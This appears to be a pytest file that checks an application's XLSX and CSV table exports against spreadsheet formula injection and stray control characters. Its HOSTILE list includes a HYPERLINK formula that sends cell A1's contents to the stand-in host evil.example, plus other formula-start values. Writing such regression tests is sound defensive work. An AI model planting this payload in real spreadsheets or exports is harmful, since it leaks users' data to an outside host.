"""Hostile field values through every table export (issue 19, section 2).

The escaping itself lives in :mod:`inspector_app.queries.cell_text` (tests/test_export_hostile.py
tries every register); these tests keep it in the fault suite.
"""

from __future__ import annotations

import csv

import openpyxl
import pytest
from core_factories import make_person

from faults.test_fault_writers import cli
from inspector_app.storage.models import Person

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "=1+1", "+7 701 000 00 00",
           "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_db(services):
    for n, value in enumerate(HOSTILE):
        make_person(services, f"Враждебный{n}", "Тест", notes=value, address=value)
    services.db.close()
    return services.db.database


def test_hostile_values_open_as_text_in_xlsx_and_csv(hostile_db, tmp_path):
    xlsx, csv_path = tmp_path / "persons.xlsx", tmp_path / "persons.csv"
    for out in (xlsx, csv_path):
        result = cli("--db", str(hostile_db), "export-table", "persons", "--out", str(out))
        assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(xlsx).active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        fields = [field for row in csv.reader(f, delimiter=";") for field in row]
    assert [v for v in fields if v.startswith(FORMULA_START)] == []


def test_control_characters_already_in_the_file_do_not_break_an_export(services, tmp_path):
    person = make_person(services, "Управляющий", "Тест")
    Person.update(address="до\x00после\x07\x1b").where(Person.id == person.id).execute()
    services.db.close()
    out = tmp_path / "persons.xlsx"
    result = cli("--db", str(services.db.database), "export-table", "persons", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert out.exists()
